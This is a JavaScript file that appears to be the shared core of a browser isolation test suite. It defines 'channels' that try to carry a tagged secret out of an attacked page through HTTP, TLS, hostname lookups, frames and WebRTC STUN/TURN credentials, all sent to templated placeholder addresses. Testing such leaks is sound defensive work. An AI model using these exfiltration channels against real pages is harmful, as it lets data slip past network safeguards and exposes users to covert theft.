// What the channels share. This text and the others in the folder are joined into one script, which
// runs in the attacked page and, where the page lets it, in frames that it makes.

const channels = {};

// Each is `run` when the page is clicked, or is something that is laid under the pointer (`lay`). In
// one `tab` many are tried; those without one each have a tab of their own, as they leave the page
// or spoil it.
function define(shared, list) {
  for (const [name, body] of Object.entries(list)) {
    const own = typeof body === 'function' ? { run: body } : body;
    channels[name] = { name, gesture: {}, ...shared, ...own };
  }
}

const quiet = (tab) => ({ tab });
// For those that need no gesture of their own, a click that they share.
const sharing = (tab) => ({ tab, sharesClick: true });
const alone = {};
// Further combinations of what others try one by one: `npm run walls` tries them too.
const isMore = true;

const fill = (text, name) => text.replaceAll('TRY', given.attempt).replaceAll('CHANNEL', name);

// The addresses of one channel. All of them tell its name.
function addressesOf(name) {
  const secret = `secret-${given.attempt}-${name}-end`;
  const { http, tls, host, turn } = given.places;
  return {
    name,
    secret,
    to: `${fill(http, name)}?answers=${secret}`,
    tls: `${fill(tls, name)}?answers=${secret}`,
    host: fill(host, name),
    turn: fill(turn, name),
    own: new URL(`/own-${name}?answers=${secret}`, document.baseURI).href,
  };
}

const add = (tag, properties, parent = stage()) => {
  const made = Object.assign(document.createElement(tag), properties);
  parent.append(made);
  return made;
};

const addLink = (properties, parent) => add('link', properties, parent ?? document.head);

// The whole of the window, so that a click in its middle meets what lies there.
const stage = () => document.querySelector('#stage') ?? document.body;

function spread(element) {
  const all = { position: 'absolute', top: 0, left: 0, width: '100%', height: '100%' };
  Object.assign(element.style, all, { display: 'block', margin: 0, border: 0, padding: 0 });
  return element;
}

const svgNamespace = 'http://www.w3.org/2000/svg';
const htmlNamespace = 'http://www.w3.org/1999/xhtml';
const mathNamespace = 'http://www.w3.org/1998/Math/MathML';

function svg(tag, attributes, ...children) {
  const made = document.createElementNS(svgNamespace, tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  made.append(...children);
  return made;
}

const blobOf = (text, type = 'text/html') => URL.createObjectURL(new Blob([text], { type }));

async function sendByPeer(Peer, me) {
  const peer = new Peer({
    iceServers: [
      { urls: `stun:${me.turn}` },
      { urls: `turn:${me.turn}`, username: me.secret, credential: 'x' },
      { urls: `turn:${me.turn}?transport=tcp`, username: me.secret, credential: 'x' },
    ],
  });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

const tellOuter = (message) => parent.postMessage(message, '*');
